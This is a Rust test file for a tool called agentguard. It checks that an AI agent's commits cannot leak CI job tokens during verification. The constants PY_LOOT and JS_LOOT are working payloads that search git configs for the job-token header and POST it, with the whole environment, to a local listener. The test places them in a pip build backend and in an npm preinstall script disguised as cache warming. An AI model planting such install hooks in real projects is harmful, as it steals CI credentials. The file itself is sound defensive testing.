//! `verify` never hands CI secrets to the change's code, tried as an attacker would, in the CI
//! flow the docs describe: a bare remote, the agent's clone, a fresh CI clone with a job token
//! in its `.git/config` the way `actions/checkout` leaves it, the notes fetched, and
//! `agentguard verify --base origin/main`. A real HTTP listener on 127.0.0.1 stands for the
//! attacker's server; every payload is first shown to work when run without agentguard, so
//! the listener staying silent means something.

use crate::require_user_namespaces;
use crate::support::{msg, text, TestRepo, TASK};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// An HTTP server on 127.0.0.1 that keeps every request it is sent.
struct Listener {
    port: u16,
    received: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (kept, stopped) = (Arc::clone(&received), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                let Ok((mut stream, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(10));
                    continue;
                };
                stream.set_nonblocking(false).unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                let request = read_request(&mut stream);
                kept.lock().unwrap().push(request);
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                );
            }
        });
        Self {
            port,
            received,
            stop,
            thread: Some(thread),
        }
    }

    fn received(&self) -> Vec<String> {
        self.received.lock().unwrap().clone()
    }

    fn clear(&self) {
        self.received.lock().unwrap().clear();
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// One request, headers and body (as long as Content-Length says).
fn read_request(stream: &mut std::net::TcpStream) -> String {
    let mut data = Vec::new();
    let mut buf = [0u8; 8192];
    while let Ok(n) = stream.read(&mut buf) {
        if n == 0 {
            break;
        }
        data.extend_from_slice(&buf[..n]);
        let text = String::from_utf8_lossy(&data);
        if let Some(end) = text.find("\r\n\r\n") {
            let length = text[..end]
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("content-length")
                        .then(|| v.trim().parse::<usize>().ok())?
                })
                .unwrap_or(0);
            if data.len() >= end + 4 + length {
                break;
            }
        }
    }
    String::from_utf8_lossy(&data).into_owned()
}

/// The Python interpreter itself (not a version manager's shim, which reads `HOME`).
fn python() -> String {
    let output = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3, to play pip's part");
    String::from_utf8(output.stdout).unwrap().trim().to_string()
}

fn base64(bytes: &[u8]) -> String {
    const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ABC[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A job token as GitHub issues them, made up here.
fn fake_job_token() -> String {
    format!("ghs_{}", "Zx9".repeat(12))
}

/// How `actions/checkout` keeps the token: an extra header in the clone's `.git/config`.
fn extraheader() -> String {
    let basic = base64(format!("x-access-token:{}", fake_job_token()).as_bytes());
    format!("AUTHORIZATION: basic {basic}")
}

/// The attacker's search for the job token: through the checkout's alternates, up from the
/// working directory, and at the CI clone by its known place beside `HOME`. Python.
const PY_LOOT: &str = r#"
import json, os, urllib.request
def _loot():
    paths, d = [], os.getcwd()
    while True:
        try:
            for line in open(os.path.join(d, ".git", "objects", "info", "alternates")).read().split():
                paths.append(os.path.join(line, "..", "config"))
        except OSError:
            pass
        paths += [os.path.join(d, ".git", "config"), os.path.join(d, "config")]
        if os.path.dirname(d) == d:
            break
        d = os.path.dirname(d)
    paths.append(os.path.join(os.environ.get("HOME", "/"), "..", "work", ".git", "config"))
    found = {}
    for path in paths:
        try:
            text = open(path).read()
        except OSError:
            continue
        if "extraheader" in text:
            found[path] = text
    return {"found": found, "env": dict(os.environ)}
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:PORT/", data=json.dumps(_loot()).encode(), method="POST"), timeout=5)
except Exception:
    pass
"#;

/// The same in JavaScript, for an npm `preinstall` script.
const JS_LOOT: &str = r#"
const fs = require('fs'), path = require('path'), http = require('http');
const paths = [];
let d = process.cwd();
for (;;) {
  try {
    for (const l of fs.readFileSync(path.join(d, '.git/objects/info/alternates'), 'utf8').split(/\s+/).filter(Boolean)) paths.push(path.join(l, '..', 'config'));
  } catch (e) {}
  paths.push(path.join(d, '.git', 'config'), path.join(d, 'config'));
  if (path.dirname(d) === d) break;
  d = path.dirname(d);
}
paths.push(path.join(process.env.HOME || '/', '..', 'work', '.git', 'config'));
const found = {};
for (const p of paths) { try { const t = fs.readFileSync(p, 'utf8'); if (t.includes('extraheader')) found[p] = t; } catch (e) {} }
const req = http.request({host: '127.0.0.1', port: PORT, method: 'POST', path: '/'}, r => r.resume());
req.on('error', () => {});
req.end(JSON.stringify({found, env: process.env}));
"#;

/// An in-tree PEP 517 build backend that builds a one-module wheel named `name`; with
/// `payload`, that code runs as pip imports it.
fn backend(name: &str, payload: &str) -> String {
    format!(
        r#"import os, zipfile
{payload}
NAME, VERSION = "{name}", "1.0"
DIST = f"{{NAME}}-{{VERSION}}.dist-info"
FILES = {{
    f"{{NAME}}.py": "VALUE = 1\n",
    f"{{DIST}}/METADATA": f"Metadata-Version: 2.1\nName: {{NAME}}\nVersion: {{VERSION}}\n",
    f"{{DIST}}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    wheel = f"{{NAME}}-{{VERSION}}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as whl:
        for path, text in FILES.items():
            whl.writestr(path, text)
        whl.writestr(f"{{DIST}}/RECORD", "".join(f"{{p}},,\n" for p in FILES) + f"{{DIST}}/RECORD,,\n")
    return wheel
"#
    )
}

const PYPROJECT: &str =
    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";

/// The base's probe, run by the trusted setup with the network and by an acceptance command
/// without it: it reports (posts, or prints with `--print`) what of the CI clone's git
/// directory and environment it can see.
fn probe(port: u16) -> String {
    format!(
        r#"import json, os, sys, urllib.request
target = os.path.join(os.environ.get("HOME", "/"), "..", "work", ".git")
report = {{"env": sorted(os.environ), "mark": os.environ.get("PROBE_MARK"),
          "alternates": os.path.exists(".git/objects/info/alternates")}}
try:
    report["config"] = open(os.path.join(target, "config")).read()
except OSError as e:
    report["config"] = "unreadable: " + type(e).__name__
try:
    report["gitdir"] = sorted(os.listdir(target))
except OSError as e:
    report["gitdir"] = "unlistable: " + type(e).__name__
body = json.dumps(report)
if "--print" in sys.argv:
    print(body)
else:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{port}/", data=body.encode(), method="POST"), timeout=5)
"#
    )
}

/// A remote, the agent's clone of it with a base commit on `main` (policy `policy`, plus
/// `files`), and a lead whose key the base's allowed signers trust for every category.
struct Flow {
    remote: TestRepo,
    dev: TestRepo,
}

impl Flow {
    fn new(policy: &str, files: &[(&str, String)]) -> Self {
        let remote = TestRepo::bare();
        let dev = TestRepo::new();
        dev.git(&["remote", "add", "origin", remote.path().to_str().unwrap()]);
        let signer = dev.signer_line("lead@example.com", "lead");
        dev.write(".agentguard/allowed_signers", &format!("{signer}\n"));
        dev.write(
            ".agentguard.toml",
            &format!(
                "{policy}\n[approvals]\nallowed_signers = \".agentguard/allowed_signers\"\napprovers = {{ \"*\" = [\"lead@example.com\"] }}\n"
            ),
        );
        for (path, content) in files {
            dev.write(path, content);
        }
        dev.write("src/app.py", "print('hello')\n");
        dev.commit_all("base");
        dev.git(&["push", "-q", "origin", "main"]);
        dev.checkout_new("agent/work");
        Self { remote, dev }
    }

    /// The agent's commit, recorded as the hooks would (`check --record`; its exit code
    /// is beside the point here) and pushed with its notes.
    fn agent_commit(&self, files: &[(&str, String)]) {
        for (path, content) in files {
            self.dev.write(path, content);
        }
        self.dev.commit_all(&msg(&[TASK]));
        self.dev.run(&["check", "HEAD", "--record"]);
        self.push();
    }

    fn push(&self) {
        self.dev.git(&[
            "push",
            "-q",
            "-f",
            "origin",
            "agent/work",
            "refs/notes/*:refs/notes/*",
        ]);
    }

    /// The lead signs off test-tampering on the agent's commit; the agent records again.
    fn approve(&self) {
        self.dev.git(&["config", "user.email", "lead@example.com"]);
        let key = self.dev.ssh_key("lead");
        let output = self.dev.run(&[
            "approve",
            "HEAD",
            "--category",
            "test-tampering",
            "--key",
            key.to_str().unwrap(),
            "--reason",
            "reviewed the new package",
        ]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        let output = self.dev.run(&["check", "HEAD", "--record"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        self.push();
    }

    /// A fresh CI clone of the agent's branch, with a job token in its config and the notes
    /// fetched.
    fn ci(&self) -> TestRepo {
        let ci = TestRepo::clone_of(&self.remote, &["--branch", "agent/work"]);
        ci.git(&[
            "config",
            "--local",
            "http.https://github.com/.extraheader",
            &extraheader(),
        ]);
        ci.git(&["fetch", "-q", "origin", "refs/notes/*:refs/notes/*"]);
        ci
    }
}

/// `agentguard verify --base origin/main --format json` in `ci`, with `env` set.
fn verify(ci: &TestRepo, env: &[(&str, &str)]) -> (i32, Value, String) {
    let tmp = ci.scratch().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let output = ci
        .agentguard()
        .args(["verify", "--base", "origin/main", "--format", "json"])
        .env("TMPDIR", tmp)
        .envs(env.iter().copied())
        .output()
        .unwrap();
    let report = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output.status.code().unwrap_or(-1), report, text(&output))
}

fn pip_setup(python: &str) -> String {
    format!(
        "[acceptance]\nsetup = [\"{python} -m pip install -q --no-index --no-build-isolation --no-cache-dir --disable-pip-version-check --target .deps -r requirements.txt\"]\ncommands = [\"{python} tests/check.py\"]\n"
    )
}

/// A Python project whose setup installs the local package `basepkg` with pip.
fn python_files() -> Vec<(&'static str, String)> {
    vec![
        ("requirements.txt", "./pkgs/base\n".into()),
        ("pkgs/base/pyproject.toml", PYPROJECT.into()),
        ("pkgs/base/backend.py", backend("basepkg", "")),
        (
            "tests/check.py",
            "import sys\nsys.path.insert(0, '.deps')\nimport basepkg\nprint('basepkg', basepkg.VALUE)\n".into(),
        ),
    ]
}

fn findings(report: &Value) -> Vec<Value> {
    report["commits"][0]["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn runs(report: &Value) -> Vec<Value> {
    report["commits"][0]["acceptance"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// Runs `program args` in `ci`'s work tree, as code run without agentguard would.
fn run_directly(ci: &TestRepo, program: &str, args: &[&str]) {
    let status = ci.command(program).args(args).status().unwrap();
    assert!(status.success(), "{program} {args:?}");
}

#[test]
fn a_local_package_added_to_requirements_cannot_send_the_job_token_anywhere() {
    require_user_namespaces!();
    let listener = Listener::start();
    let python = python();
    let flow = Flow::new(&pip_setup(&python), &python_files());
    let payload = PY_LOOT.replace("PORT", &listener.port.to_string());
    flow.agent_commit(&[
        ("requirements.txt", "./pkgs/base\n./pkgs/evil\n".into()),
        ("pkgs/evil/pyproject.toml", PYPROJECT.into()),
        ("pkgs/evil/backend.py", backend("evilpkg", &payload)),
    ]);
    let ci = flow.ci();
    // The payload works: run by hand in the CI clone, it finds the token and sends it.
    run_directly(&ci, &python, &["pkgs/evil/backend.py"]);
    let sent = listener.received();
    assert_eq!(sent.len(), 1, "the payload reaches the listener");
    assert!(sent[0].contains(&base64(
        format!("x-access-token:{}", fake_job_token()).as_bytes()
    )));
    listener.clear();

    let (code, report, output) = verify(&ci, &[]);
    assert_eq!(code, 1, "{output}");
    let all = findings(&report);
    let tampering: Vec<&Value> = all
        .iter()
        .filter(|f| f["category"] == "test-tampering" && f["action"] == "approve")
        .collect();
    let paths: Vec<&str> = tampering
        .iter()
        .filter_map(|f| f["path"].as_str())
        .collect();
    for path in [
        "requirements.txt",
        "pkgs/evil/backend.py",
        "pkgs/evil/pyproject.toml",
    ] {
        assert!(paths.contains(&path), "{path} in {paths:?}\n{output}");
    }
    let message = tampering
        .iter()
        .find(|f| f["path"] == "pkgs/evil/backend.py")
        .unwrap()["message"]
        .as_str()
        .unwrap();
    assert!(message.contains("setup reads"), "{message}");
    assert!(message.contains("local package `pkgs/evil/`"), "{message}");
    // Nothing ran: not setup, not the tests.
    let skipped = runs(&report);
    assert_eq!(skipped.len(), 2, "{output}");
    for run in &skipped {
        assert_eq!(run["status"], "skipped", "{run:#}");
        assert!(run["reason"]
            .as_str()
            .unwrap()
            .contains("risk test-tampering awaiting approval"));
    }
    assert!(listener.received().is_empty(), "{:?}", listener.received());

    // Once a person approves, setup runs the package with the network: it still finds
    // nothing to send.
    flow.approve();
    let ci = flow.ci();
    let (code, report, output) = verify(&ci, &[]);
    assert_eq!(code, 0, "{output}");
    assert_eq!(runs(&report)[0]["network"], "allowed");
    assert_eq!(runs(&report)[0]["status"], "passed");
    let sent = listener.received();
    assert!(!sent.is_empty(), "the approved setup ran the package");
    for request in &sent {
        assert!(request.contains("\"found\": {}"), "{request}");
        assert!(!request.contains("extraheader"), "{request}");
        assert!(!request.contains(&fake_job_token()), "{request}");
    }
}

#[test]
fn an_npm_preinstall_script_cannot_send_the_job_token_anywhere() {
    require_user_namespaces!();
    if which::which("npm").is_err() || which::which("node").is_err() {
        eprintln!("skipped an_npm_preinstall_script_cannot_send_the_job_token_anywhere: npm and node are not installed");
        return;
    }
    let listener = Listener::start();
    let flow = Flow::new(
        "[acceptance]\nsetup = [\"npm install --cache .npm-cache --offline --no-audit --no-fund\"]\ncommands = [\"test -f package.json\"]\n",
        &[(
            "package.json",
            r#"{"name": "shop", "version": "1.0.0", "private": true}"#.into(),
        )],
    );
    flow.agent_commit(&[
        (
            "package.json",
            r#"{"name": "shop", "version": "1.0.0", "private": true, "scripts": {"preinstall": "node tools/warm-cache.js"}}"#.into(),
        ),
        (
            "tools/warm-cache.js",
            JS_LOOT.replace("PORT", &listener.port.to_string()),
        ),
    ]);
    let ci = flow.ci();
    run_directly(&ci, "node", &["tools/warm-cache.js"]);
    let sent = listener.received();
    assert_eq!(sent.len(), 1, "the payload reaches the listener");
    assert!(sent[0].contains("extraheader"));
    listener.clear();

    let (code, report, output) = verify(&ci, &[]);
    assert_eq!(code, 1, "{output}");
    let paths: Vec<String> = findings(&report)
        .iter()
        .filter(|f| f["category"] == "test-tampering" && f["action"] == "approve")
        .filter_map(|f| f["path"].as_str().map(str::to_string))
        .collect();
    for path in ["package.json", "tools/warm-cache.js"] {
        assert!(
            paths.iter().any(|p| p == path),
            "{path} in {paths:?}\n{output}"
        );
    }
    assert!(
        runs(&report).iter().all(|r| r["status"] == "skipped"),
        "{output}"
    );
    // Give a stray request time to arrive before saying none did.
    std::thread::sleep(Duration::from_millis(200));
    assert!(listener.received().is_empty(), "{:?}", listener.received());
}

#[test]
fn a_trusted_setup_with_the_network_still_cannot_see_the_git_directory_or_ci_tokens() {
    require_user_namespaces!();
    let listener = Listener::start();
    let python = python();
    let policy = format!(
        "[acceptance]\nsetup = [\"{python} ci/probe.py\"]\ncommands = [\"{python} ci/probe.py --print\"]\nenv = [\"PATH\", \"HOME\", \"LANG\", \"PROBE_MARK\", \"GITHUB_TOKEN\", \"GH_TOKEN\", \"ACTIONS_*\", \"CI_JOB_TOKEN\", \"NPM_TOKEN\"]\n"
    );
    let flow = Flow::new(&policy, &[("ci/probe.py", probe(listener.port))]);
    // A legitimate change: it touches nothing setup reads.
    flow.agent_commit(&[("src/app.py", "print('hello, world')\n".into())]);
    // (What the agent's own check sent from its clone is not what this test is about.)
    listener.clear();
    let ci = flow.ci();
    // The probe is honest: run by hand in the CI clone, it sees the token.
    run_directly(&ci, &python, &["ci/probe.py"]);
    assert!(listener.received()[0].contains("extraheader"));
    listener.clear();

    let token = fake_job_token();
    let runtime = format!("eyJ0eXAiOiJKV1Qi.{}", "runtime".repeat(6));
    let (code, report, output) = verify(
        &ci,
        &[
            ("PROBE_MARK", "visible"),
            ("GITHUB_TOKEN", &token),
            ("GH_TOKEN", &token),
            ("ACTIONS_RUNTIME_TOKEN", &runtime),
            ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", &runtime),
            (
                "ACTIONS_ID_TOKEN_REQUEST_URL",
                "https://token.actions.example/x",
            ),
            ("CI_JOB_TOKEN", "glcbt-64_secretjobtoken"),
            ("NPM_TOKEN", "npm_secretsecretsecret"),
        ],
    );
    assert_eq!(code, 0, "{output}");
    let runs = runs(&report);
    assert_eq!(runs[0]["phase"], "setup");
    assert_eq!(runs[0]["network"], "allowed");
    assert_eq!(runs[1]["network"], "denied");
    // Setup had the network (its report arrived) and saw neither the git directory nor a
    // token: the directory is an empty tmpfs, the checkout has no alternates.
    let sent = listener.received();
    assert_eq!(sent.len(), 1, "{sent:?}");
    let body: Value =
        serde_json::from_str(&sent[0][sent[0].find("\r\n\r\n").unwrap() + 4..]).unwrap();
    assert_eq!(body["config"], "unreadable: FileNotFoundError", "{body:#}");
    assert_eq!(body["gitdir"], serde_json::json!([]), "{body:#}");
    assert_eq!(body["alternates"], false);
    assert_eq!(body["mark"], "visible", "the allowlist works");
    for secret in [
        token.as_str(),
        runtime.as_str(),
        "glcbt-64",
        "npm_secret",
        "extraheader",
    ] {
        assert!(!sent[0].contains(secret), "{secret} reached setup");
    }
    let names: Vec<&str> = body["env"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for name in [
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "ACTIONS_RUNTIME_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_URL",
        "CI_JOB_TOKEN",
        "NPM_TOKEN",
    ] {
        assert!(!names.contains(&name), "{name} reached setup");
    }
    // The acceptance command saw the same.
    let tail = runs[1]["output_tail"].as_str().unwrap();
    let seen: Value = serde_json::from_str(tail.trim()).unwrap();
    assert_eq!(seen["gitdir"], serde_json::json!([]));
    assert!(
        !tail.contains("GITHUB_TOKEN") && !tail.contains("ACTIONS_"),
        "{tail}"
    );
    // And the run says what it withheld, so nobody is surprised.
    let withheld = findings(&report)
        .into_iter()
        .find(|f| f["category"] == "env-withheld")
        .unwrap_or_else(|| panic!("an env-withheld warning\n{output}"));
    assert_eq!(withheld["action"], "warn");
    let message = withheld["message"].as_str().unwrap();
    for name in [
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        "ACTIONS_RUNTIME_TOKEN",
        "CI_JOB_TOKEN",
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "NPM_TOKEN",
    ] {
        assert!(message.contains(name), "{name}: {message}");
    }
    // The CI clone's own git directory is as it was.
    assert!(ci.read(".git/config").contains("extraheader"));
}

#[test]
fn a_change_to_requirements_passes_once_a_person_approves_test_tampering() {
    require_user_namespaces!();
    let python = python();
    let flow = Flow::new(&pip_setup(&python), &python_files());
    flow.agent_commit(&[
        ("requirements.txt", "./pkgs/base\n./pkgs/extra\n".into()),
        ("pkgs/extra/pyproject.toml", PYPROJECT.into()),
        ("pkgs/extra/backend.py", backend("extrapkg", "")),
    ]);
    let (code, report, output) = verify(&flow.ci(), &[]);
    assert_eq!(code, 1, "{output}");
    assert!(findings(&report)
        .iter()
        .any(|f| f["category"] == "test-tampering" && f["path"] == "requirements.txt"));

    flow.approve();
    let (code, report, output) = verify(&flow.ci(), &[]);
    assert_eq!(code, 0, "{output}");
    let runs = runs(&report);
    assert_eq!(runs[0]["network"], "allowed");
    assert!(runs.iter().all(|r| r["status"] == "passed"), "{output}");
    assert!(findings(&report)
        .iter()
        .filter(|f| f["category"] == "test-tampering")
        .all(|f| f["approved"] == true));
}

#[test]
fn a_legitimate_change_runs_setup_with_the_network_and_passes() {
    require_user_namespaces!();
    let python = python();
    let flow = Flow::new(&pip_setup(&python), &python_files());
    flow.agent_commit(&[("src/app.py", "print('paginated')\n".into())]);
    let (code, report, output) = verify(&flow.ci(), &[]);
    assert_eq!(code, 0, "{output}");
    let runs = runs(&report);
    assert_eq!(runs.len(), 2);
    assert_eq!(runs[0]["phase"], "setup");
    assert_eq!(runs[0]["network"], "allowed");
    assert!(runs[0]["reason"].is_null());
    assert!(runs[1]["output_tail"]
        .as_str()
        .unwrap()
        .contains("basepkg 1"));
    assert!(!findings(&report)
        .iter()
        .any(|f| f["category"] == "test-tampering"));
}
